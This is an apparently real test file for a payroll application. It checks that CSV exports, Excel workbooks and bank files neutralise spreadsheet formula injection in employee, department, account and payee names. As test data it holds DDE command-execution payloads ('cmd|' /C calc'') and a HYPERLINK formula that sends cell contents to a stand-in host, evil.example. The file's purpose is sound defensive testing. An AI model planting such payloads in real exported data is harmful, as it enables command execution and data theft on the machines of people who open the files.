import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORMULA_NAME } from './formulas';
import { addPayee, addPayItem, testIban } from './pay-item-rows';
import { apiCalls, createTestApp, signInEveryRole, type Session, type TestApp } from './test-app';

/**
 * Issue 23: text a person typed never runs as a formula in any file the product writes. Employees, a department
 * and an account are given names a spreadsheet would run; every CSV export and CSV bank file writes them with a
 * `'` in front (and nothing else starts a formula), every workbook keeps them as text cells, and a fixed-width
 * bank file carries no control character or line break from them.
 */

let t: TestApp;
let filesDir: string;
let admin: Session;
let manager: Session;
let auditor: Session;
let payrollId: number;
let month: string;

const NAMES = {
  formula: FORMULA_NAME,
  plus: '+1+Ana\r\nBeta\u2028Gamma\tDelta',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
};
const DEPARTMENT = "-2+3+cmd|' /C calc'!A0";
const ACCOUNT = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';

const { call, data, rows } = apiCalls(() => t);

/** A file a call answers, or a stored bank file. */
const file = async (s: Session, url: string, payload: object): Promise<Buffer> => {
  const res = await call(s, url, payload);
  expect(res.statusCode, `${url}: ${res.body}`).toBe(200);
  return res.rawPayload;
};
const stored = async (nom_archivo: string) => {
  const res = await t.app.inject({
    method: 'GET',
    url: '/api/util/',
    headers: { ...manager.headers, carpeta: 'bancos', nom_archivo },
  });
  expect(res.statusCode).toBe(200);
  return res.rawPayload;
};

/** What a spreadsheet would start a formula with; a plain number (`-1234,56`) is a number, not a formula. */
const FORMULA_START = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;
const NUMBER = /^-?\d+(?:[.,]\d+)?$/;

const csvCells = (bytes: Buffer, delimiter: string): string[][] =>
  Papa.parse<string[]>(bytes.toString('utf8').replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true })
    .data;

/** Every cell of a CSV: none starts a formula, and each typed name is there with a `'` in front. */
const expectNeutralCsv = (bytes: Buffer, delimiter: string, typed: string[]) => {
  const cells = csvCells(bytes, delimiter).flat();
  expect(cells.filter((c) => FORMULA_START.test(c) && !NUMBER.test(c))).toEqual([]);
  for (const text of typed)
    expect(
      cells.some((c) => c.startsWith(`'${text}`)),
      `${JSON.stringify(text)} in ${cells.join(' | ').slice(0, 400)}`,
    ).toBe(true);
};

/** Every cell of a workbook: no formula, and each typed name is a text cell exactly as typed. */
const expectTextWorkbook = async (bytes: Buffer, typed: string[]) => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
        if (cell.type === ExcelJS.ValueType.String) texts.push(String(cell.value));
      }),
    ),
  );
  for (const text of typed)
    expect(
      texts.some((c) => c.startsWith(text)),
      JSON.stringify(text),
    ).toBe(true);
};

beforeAll(async () => {
  filesDir = mkdtempSync(join(tmpdir(), 'planilla-formulas-'));
  t = await createTestApp({ filesDir });
  ({ admin, manager, auditor } = await signInEveryRole(t.app));
  ({ payrollId } = await data(manager, 'paramPlanilla/newpayroll', {
    periodicity: 'fortnightly',
    periodStart: '2026-11-01',
    periodEnd: '2026-11-15',
  }));
  await data(manager, 'procesoPlanilla/projectpayroll', { payrollId }, 'PUT');
  const calc = await data(manager, 'procesoPlanilla/calculatePayroll', { payrollId }, 'PUT');
  // Three paid employees with an account take the names; the first one's department and an account too.
  const paid = await rows<{ n: number; department: number }>(sql`
    select s.employee_number as n, e.department_id as department from payslips s
    join employees e using (company_id, employee_number)
    where s.company_id = 1 and s.payroll_id = ${payrollId} and s.net > 0 and e.iban is not null
      and e.department_id is not null
    order by 1 limit 3`);
  expect(paid).toHaveLength(3);
  for (const [i, firstName] of Object.values(NAMES).entries())
    await data(admin, 'empleados/update', { num_empleado: Number(paid[i]!.n), firstName }, 'PUT');
  await data(
    admin,
    'paramPlanilla/updatedepartment',
    { id: Number(paid[0]!.department), name: DEPARTMENT },
    'PUT',
  );
  await data(
    admin,
    'procesoPlanilla/savechartofaccounts',
    { accounts: [{ lineKind: 'salary_expense', accountCode: '5-1-01', accountName: ACCOUNT }] },
    'PUT',
  );
  await data(manager, 'procesoPlanilla/closepayroll', { payrollId, confirmNet: calc.totals.net }, 'PUT');
  const [payroll] = await rows<{ pay_date: string }>(
    sql`select pay_date::text from payrolls where company_id = 1 and id = ${payrollId}`,
  );
  month = payroll!.pay_date.slice(0, 7);
}, 240_000);
afterAll(async () => {
  await t?.close();
  rmSync(filesDir, { recursive: true, force: true });
});

const TYPED_NAMES = [NAMES.formula, NAMES.plus.slice(0, 6), NAMES.at];

describe('exports with names a spreadsheet would run', () => {
  it('employees: the CSV neutralises them, the workbook keeps them as text', async () => {
    const csv = await file(auditor, 'empleados/employeesexport', { format: 'csv' });
    expectNeutralCsv(csv, ';', [...TYPED_NAMES, DEPARTMENT]);
    await expectTextWorkbook(await file(auditor, 'empleados/employeesexport', { format: 'xlsx' }), [
      NAMES.formula,
      DEPARTMENT,
    ]);
  });

  it('vacation balances', async () => {
    const csv = await file(auditor, 'vacaciones/vacationexport', { format: 'csv' });
    expectNeutralCsv(csv, ';', [...TYPED_NAMES, DEPARTMENT]);
    await expectTextWorkbook(await file(auditor, 'vacaciones/vacationexport', { format: 'xlsx' }), [
      NAMES.formula,
    ]);
  });

  it('payroll results', async () => {
    const csv = await file(auditor, 'procesoPlanilla/payrollcalculateexport', { payrollId, format: 'csv' });
    expectNeutralCsv(csv, ';', TYPED_NAMES);
    // The product's own amounts stay numbers: two decimals, no quote in front.
    const rowsOf = csvCells(csv, ';');
    const net = rowsOf[0]!.findIndex((h) => h.startsWith('Neto'));
    expect(rowsOf.slice(1).every((r) => NUMBER.test(r[net]!))).toBe(true);
    await expectTextWorkbook(
      await file(auditor, 'procesoPlanilla/payrollcalculateexport', { payrollId, format: 'xlsx' }),
      [NAMES.formula],
    );
  });

  it('accounting journal, by department', async () => {
    const body = { payrollId, byDepartment: true };
    const csv = await file(auditor, 'procesoPlanilla/accountingresumeexport', { ...body, format: 'csv' });
    expectNeutralCsv(csv, ';', [ACCOUNT, DEPARTMENT]);
    await expectTextWorkbook(
      await file(auditor, 'procesoPlanilla/accountingresumeexport', { ...body, format: 'xlsx' }),
      [ACCOUNT, DEPARTMENT],
    );
  });

  it.each(['ccss', 'ins', 'tax'] as const)('statutory report %s', async (report) => {
    const csv = await file(auditor, 'postPlanilla/statutoryreport', { month, report, format: 'csv' });
    expectNeutralCsv(csv, ';', TYPED_NAMES);
    await expectTextWorkbook(
      await file(auditor, 'postPlanilla/statutoryreport', { month, report, format: 'xlsx' }),
      [NAMES.formula],
    );
  });

  it('the import template lists the catalogs as text', async () => {
    await expectTextWorkbook(await file(admin, 'empleados/importtemplate', { format: 'xlsx' }), [DEPARTMENT]);
  });
});

describe('bank files with names a spreadsheet would run', () => {
  const generate = async (layoutCode: string, reference?: string) =>
    stored(
      (
        await data(
          manager,
          'procesoPlanilla/bankfile',
          { payrollId, layoutCode, ...(reference ? { reference } : {}) },
          'PUT',
        )
      ).nom_archivo,
    );

  it('the generic CSV and Excel files', async () => {
    expectNeutralCsv(await generate('GENERIC_CSV', '=1+1 planilla'), ',', [...TYPED_NAMES, '=1+1 planilla']);
    await expectTextWorkbook(await generate('GENERIC_XLSX'), [NAMES.formula]);
  });

  it("a company's CSV layout: a constant and a column title typed as formulas too", async () => {
    await data(manager, 'procesoPlanilla/newbanklayout', {
      code: 'FORMULAS',
      name: 'Con fórmulas',
      definition: {
        fileType: 'delimited',
        separator: '|',
        quote: 'none',
        columnTitles: true,
        detail: {
          fields: [
            { label: '@Titulo', source: 'name' },
            { label: 'Registro', source: 'constant', value: "=cmd|' /C calc'!A0" },
            { label: 'Monto', source: 'amount', amountUnit: 'colones', decimalSeparator: ',' },
          ],
        },
        extension: 'csv',
      },
    });
    const preview = await data(manager, 'procesoPlanilla/banklayoutpreview', {
      payrollId,
      layoutCode: 'FORMULAS',
    });
    expect(preview.lines[0].text).toMatch(/^'@Titulo\|/);
    const bytes = await generate('FORMULAS');
    expectNeutralCsv(bytes, '|', ['@Titulo', NAMES.formula.replace('|', ' ')]);
  });

  it('a fixed-width file carries no control character and no line break from a name or a reference', async () => {
    const layout = (await data(manager, 'procesoPlanilla/banklayouts', {})).find(
      (l: { code: string }) => l.code === 'BNCR_SINPE_COMMUNITY',
    );
    const bytes = await generate(layout.code, 'Pago\u2028noviembre\u0009quincena');
    const text = bytes.toString('latin1');
    const records = text.split('\r\n').slice(0, -1);
    // eslint-disable-next-line no-control-regex
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    const detailWidth = layout.definition.detail.fields.reduce(
      (s: number, f: { width: number }) => s + f.width,
      0,
    );
    expect(records.slice(2).every((r) => r.length === detailWidth)).toBe(true);
    expect(records.some((r) => r.includes('+1+ANA BETA GAMMA DE'))).toBe(true);
  });
});

describe('the payee summary with a payee and a case number a spreadsheet would run', () => {
  const PAYEE = '+Juzgado=1+1';
  const CASE = '=1+1 expediente';
  beforeAll(async () => {
    const db = t.database.db;
    const payeeId = await addPayee(db, {
      name: PAYEE,
      kind: 'court',
      idNumber: '@2-300-042155',
      iban: testIban('151', '10009876543210'),
    });
    const [first] = await rows<{ n: number }>(sql`
      select s.employee_number as n from payslips s where s.company_id = 1 and s.payroll_id = ${payrollId}
        and s.net > 0 order by 1 limit 1`);
    await addPayItem(db, {
      payrollId,
      employeeNumber: Number(first!.n),
      typeCode: 'EMBARGO',
      itemClass: 'embargo',
      amount: 1_000_000,
      payeeId,
      reference: CASE,
    });
  });

  it('the export: the CSV neutralises them, the workbook keeps them as text', async () => {
    const csv = await file(auditor, 'rubros/pagosbeneficiarioexport', { payrollId, format: 'csv' });
    expectNeutralCsv(csv, ';', [PAYEE, CASE, '@2-300-042155', NAMES.formula]);
    await expectTextWorkbook(await file(auditor, 'rubros/pagosbeneficiarioexport', { payrollId }), [
      PAYEE,
      CASE,
      NAMES.formula,
    ]);
  });

  it('the bank file: a delimited one neutralises them, a fixed-width one keeps its widths', async () => {
    const csv = await file(auditor, 'rubros/pagosbeneficiariobanco', {
      payrollId,
      layoutCode: 'GENERIC_CSV',
      reference: '-1+1 rubros',
    });
    expectNeutralCsv(csv, ',', [PAYEE, '-1+1 rubros']);
    await expectTextWorkbook(
      await file(auditor, 'rubros/pagosbeneficiariobanco', { payrollId, layoutCode: 'GENERIC_XLSX' }),
      [PAYEE],
    );
    const fixed = await file(auditor, 'rubros/pagosbeneficiariobanco', {
      payrollId,
      layoutCode: 'BNCR_SINPE_COMMUNITY',
      reference: 'Rubros\u2028noviembre\u0009quincena',
    });
    const text = fixed.toString('latin1');
    // eslint-disable-next-line no-control-regex
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(text.split('\r\n').slice(0, -1)).toHaveLength(3);
  });
});
